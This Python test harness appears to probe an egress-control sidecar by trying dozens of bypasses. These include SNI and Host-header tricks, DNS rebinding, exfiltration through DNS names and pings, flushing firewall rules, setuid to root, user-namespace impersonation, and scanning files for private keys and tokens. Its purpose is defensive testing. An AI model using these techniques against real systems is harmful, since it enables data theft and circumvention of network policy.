"""Attempts of an application to get around its sidecar. Each prints one line of JSON: what was tried, and what was observed."""
import ctypes
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import time

SERVICE, POD, REFUSED = (os.environ[n] for n in ("SERVICE", "POD", "REFUSED"))
# The register of customers, which a platform team runs in the cluster.
REGISTER, REGISTER_POD = os.environ["REGISTER"], os.environ["REGISTER_POD"]
HOST = "api.sendgrid.com"
NAME = "customers.crm"
FULL = NAME + ".svc.cluster.local"
MAIL = json.dumps({
    "from": {"email": "post@gartenhaus.example"}, "subject": "attempt", "template_id": "d-newsletter",
    "personalizations": [{"to": [{"email": REFUSED}]}],
})


def request(host, method="POST", target="/v3/mail/send", more=""):
    return (f"{method} {target} HTTP/1.1\r\nHost: {host}\r\n{more}Authorization: Bearer SG.opens.nothing\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(MAIL)}\r\nConnection: close\r\n\r\n{MAIL}").encode()


def heard(s):
    data = b""
    while len(data) < 1 << 16:
        part = s.recv(4096)
        if not part:
            break
        data += part
    text = data.decode(errors="replace")
    if not text:
        return "closed without a word"
    body = text.partition("\r\n\r\n")[2]
    for word in ("NOT_PERMITTED", "NOT_CANONICAL", "ENDPOINT_UNKNOWN", "UNGOVERNED_HOST", "TLS_REFUSED", "PORT_UNKNOWN", "PROTOCOL", "NO_POLICY", "HOST_UNDECLARED"):
        if word in body:
            return text.splitlines()[0] + ": " + word
    return text.splitlines()[0] + ": " + body[:200]


def read(address, host, target="/v1/customers", port=80, family=socket.AF_INET):
    """Asks for everybody in the register, and tells whether somebody came."""
    return whether(plain(address, port, f"GET {target} HTTP/1.1\r\nHost: {host}\r\nAccept: application/json\r\nConnection: close\r\n\r\n".encode(), family))


def whether(observed):
    line, _, body = observed.partition(": ")
    if " 200 " not in line:
        return observed
    return line + (": everybody" if "@" in body else ": nobody")


def dial(address, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(10)
    s.connect((address, port))
    return s


def tls(address, port, name, ask):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with context.wrap_socket(dial(address, port), server_hostname=name) as s:
        s.sendall(ask)
        return heard(s)


def plain(address, port, ask, family=socket.AF_INET):
    with dial(address, port, family) as s:
        s.sendall(ask)
        return heard(s)


def datagram():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.connect((SERVICE, 443))
    s.send(b"\xc0" + b"\0" * 1199)
    s.recv(1)
    return "answered"


def exchange(family, kind, protocol, to, data):
    """Sends a datagram and tells how long the answer is."""
    s = socket.socket(family, kind, protocol)
    s.settimeout(5)
    s.sendto(data, to)
    return s.recv(2048)


def quic():
    """The first datagram of a client of QUIC, of a version that nobody speaks (RFC 9000, 15), to another port than 443."""
    first = b"\xc0\x1a\x2a\x3a\x4a\x08" + os.urandom(8) + b"\x08" + os.urandom(8)
    answer = exchange(socket.AF_INET, socket.SOCK_DGRAM, 0, (POD, 8443), first.ljust(1200, b"\0"))
    return "answered: version negotiation" if answer[1:5] == b"\0\0\0\0" else "answered: %r" % answer[:8]


def tunnel():
    """A name with data in it, asked of the pod's name server."""
    with open("/etc/resolv.conf") as f:
        server = [line.split()[1] for line in f if line.startswith("nameserver")][0]
    name = b"".join(bytes([len(part)]) + part for part in (REFUSED.encode().hex()[:60].encode(), b"tunnel", b"example")) + b"\0"
    answer = exchange(socket.AF_INET, socket.SOCK_DGRAM, 0, (server, 53), os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + name + b"\0\x10\0\1")
    return "answered: code %d" % (answer[3] & 15)


def ping():
    """Data in an echo request, without privileges (net.ipv4.ping_group_range)."""
    data = struct.pack("!BBHHH", 8, 0, 0, 0, 1) + REFUSED.encode()
    answer = exchange(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, (POD, 0), data)
    return "answered: %d bytes" % len(answer)


def addresses():
    with open("/proc/net/if_inet6") as f:
        return "on " + ", ".join(sorted("%s: %s" % (line.split()[5], line[:4]) for line in f)) + "; routes: %d" % routes()


def routes():
    """Those of IPv6 to elsewhere than this pod's own addresses, by another device than lo."""
    with open("/proc/net/ipv6_route") as f:
        return sum(line.split()[9] != "lo" for line in f)


def neighbour(address):
    """A pod of the register by the address that its device gave itself."""
    if not address:
        return "it has none"
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
        s.settimeout(5)
        s.connect((address, 8080, 0, socket.if_nametoindex("eth0")))
        s.sendall(b"GET /v1/customers HTTP/1.1\r\nHost: rebound.example\r\nConnection: close\r\n\r\n")
        return whether(heard(s))


def sctp():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)
    s.settimeout(2)
    s.connect((REGISTER, 80))
    return "connected"


def raw():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    return "sends what it likes"


def namespaced():
    """Becomes the sidecar's user in a user namespace of its own (CLONE_NEWUSER)."""
    libc, status = ctypes.CDLL(None, use_errno=True), 3
    if os.fork() == 0:
        try:
            uid = os.getuid()
            status = 2
            if libc.unshare(0x10000000) == 0:
                status = 1
                with open("/proc/self/uid_map", "w") as f:
                    f.write("%s %d 1" % (os.environ["UID"], uid))
                if " 200" in read(REGISTER, "rebound.example"):
                    status = 0
        finally:
            os._exit(status)
    status = os.waitstatus_to_exitcode(os.wait()[1])
    return ("read the register", "made one, and its connections came to the sidecar", "no user namespace", "")[status]


def flush():
    out = subprocess.run(["/usr/sbin/nft", "flush", "ruleset"], capture_output=True, text=True)
    return "exit code %d: %s" % (out.returncode, out.stderr.strip().splitlines()[0] if out.stderr else "")


def become(uid):
    os.setuid(uid)
    return "became %d" % uid


def kill():
    seen = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with open("/proc/%s/cmdline" % pid, "rb") as f:
            if b"sidecar" in f.read():
                seen.append(pid)
    return "processes of the sidecar: %d" % len(seen)


def files():
    """Everything that this program can read, except the runtime's own files."""
    keys, tokens, count = [], [], 0
    for folder, below, names in os.walk("/"):
        if folder == "/":
            below[:] = [d for d in below if d not in ("usr", "lib", "lib64", "bin", "sys")]
        if folder == "/proc":
            below[:] = [d for d in below if d == str(os.getpid()) or d == "1"]
        if "/task" in folder or "/net" in folder:
            below[:] = []
        for name in names:
            path = os.path.join(folder, name)
            try:
                if not os.path.isfile(path) or path in ("/proc/kmsg", "/proc/kcore"):
                    continue
                with open(path, "rb") as f:
                    data = f.read(1 << 20)
            except OSError:
                continue
            count += 1
            if b"PRIVATE KEY" in data and not path.endswith("attempts.py"):
                keys.append(path)
            if data.startswith(b"eyJ"):
                tokens.append(path)
    return "private keys: %d, tokens: %d" % (len(keys), len(tokens)) if count > 50 else "only %d files" % count


def admin():
    out = []
    for path in ("/metrics", "/summary", "/config", "/bundle", "/debug/pprof/heap?debug=1", "/debug/vars"):
        out.append(plain("127.0.0.1", 15020, ("GET %s HTTP/1.0\r\nHost: localhost\r\n\r\n" % path).encode()))
    for line in out:
        print(line, file=sys.stderr)
    return "answers: " + ", ".join(line.split(" ")[1] for line in out if line.startswith("HTTP"))


ATTEMPTS = {
    "direct address, no server name": lambda: tls(SERVICE, 443, None, request(HOST)),
    "direct address, another server name": lambda: tls(SERVICE, 443, "www.other.example", request(HOST)),
    "direct address, the vendor's server name": lambda: tls(SERVICE, 443, HOST, request(HOST)),
    "address of a pod behind it, no server name": lambda: tls(POD, 8443, None, request(HOST)),
    "address of a pod behind it, the vendor's server name": lambda: tls(POD, 8443, HOST, request(HOST)),
    "another port of the vendor": lambda: tls(HOST, 8443, HOST, request(HOST)),
    "HTTP on the port of TLS": lambda: plain(HOST, 443, request(HOST)),
    "another name that leads to the vendor (rebinding)": lambda: tls("rebound.example", 443, "rebound.example", request("rebound.example")),
    "IPv6 with an IPv4 address in it": lambda: plain("::ffff:" + SERVICE, 443, request(HOST), socket.AF_INET6),
    "IPv6": lambda: plain("2001:db8::1", 443, request(HOST), socket.AF_INET6),
    "Host header of another host": lambda: tls(HOST, 443, HOST, request("www.other.example")),
    "absolute target of another host": lambda: tls(HOST, 443, HOST, request(HOST, target="https://www.other.example/v3/mail/send")),
    "two Host headers": lambda: tls(HOST, 443, HOST, request(HOST, more="Host: www.other.example\r\n")),
    "CONNECT within TLS": lambda: tls(HOST, 443, HOST, request(HOST, "CONNECT", HOST + ":443")),
    "CONNECT to the sidecar's own listener": lambda: plain("127.0.0.1", 15001, request(HOST, "CONNECT", HOST + ":443")),
    "IPv6: what the pod has": addresses,
    "IPv6: a pod of the register by its link-local address": lambda: neighbour(os.environ["REGISTER_POD6"]),
    "UDP 443": datagram,
    "QUIC on another port": quic,
    "data in a question to the name server": tunnel,
    "data in pings": ping,
    "register: its declared name": lambda: read(NAME, NAME),
    "register: its name with .svc": lambda: read(NAME + ".svc", NAME + ".svc"),
    "register: its full name": lambda: read(FULL, FULL),
    "register: its full name with a dot behind": lambda: read(FULL + ".", FULL + "."),
    "register: its name in capitals": lambda: read(NAME.upper(), NAME.upper()),
    "register: its name in letters that look alike": lambda: plain(REGISTER, 80, f"GET /v1/customers HTTP/1.1\r\nHost: \uff43ustomers.crm\r\n\r\n".encode()),
    "register: its address under its name": lambda: read(REGISTER, NAME),
    "register: its address under another name": lambda: read(REGISTER, "rebound.example"),
    "register: its address under no name": lambda: whether(plain(REGISTER, 80, b"GET /v1/customers HTTP/1.0\r\n\r\n")),
    "register: its address mapped into IPv6": lambda: read("::ffff:" + REGISTER, "rebound.example", family=socket.AF_INET6),
    "register: another port of its address": lambda: read(REGISTER, NAME, port=8080),
    "register: CONNECT": lambda: plain(REGISTER, 80, f"CONNECT {NAME}:80 HTTP/1.1\r\nHost: {NAME}\r\n\r\n".encode()),
    "register: its URL in absolute form": lambda: read(REGISTER, NAME, "http://" + NAME + "/v1/customers"),
    "register: no HTTP": lambda: plain(REGISTER, 80, b"\0\1\2\r\n\r\n"),
    "register: a pod with its name in the own namespace": lambda: read("customers.crm.marketing.svc.cluster.local", NAME),
    "register: a pod of it": lambda: read(REGISTER_POD, "rebound.example", port=8080),
    "register: a pod of it, under its name": lambda: read(REGISTER_POD, NAME, port=8080),
    "register: another port of a pod of it, under its name": lambda: read(REGISTER_POD, NAME, "/stats", port=8081),
    "register: another Service of its pods": lambda: read("another." + FULL.partition(".")[2], "another." + FULL.partition(".")[2], port=8888),
    "register: a headless Service of its pods": lambda: read("headless." + FULL.partition(".")[2], "headless", port=8080),
    "SCTP": sctp,
    "raw packets": raw,
    "a user namespace of its own": namespaced,
    "flushing the rules": flush,
    "becoming the sidecar's user": lambda: become(int(os.environ["UID"])),
    "becoming root": lambda: become(0),
    "killing the sidecar": kill,
    "reading keys and tokens": files,
    "asking the sidecar's admin port": admin,
}

# A sidecar that has just started may not know yet what people agreed to, and says 503 for so long.
for _ in range(60):
    try:
        if "HTTP/1.1 503" not in tls(SERVICE, 443, HOST, request(HOST)):
            break
    except OSError:
        break
    time.sleep(1)

for name, attempt in ATTEMPTS.items():
    try:
        observed = attempt()
    except Exception as e:  # whatever stops an attempt is what is observed
        observed = type(e).__name__ + ": " + str(e)
    print(json.dumps({"attempt": name, "observed": observed}), flush=True)
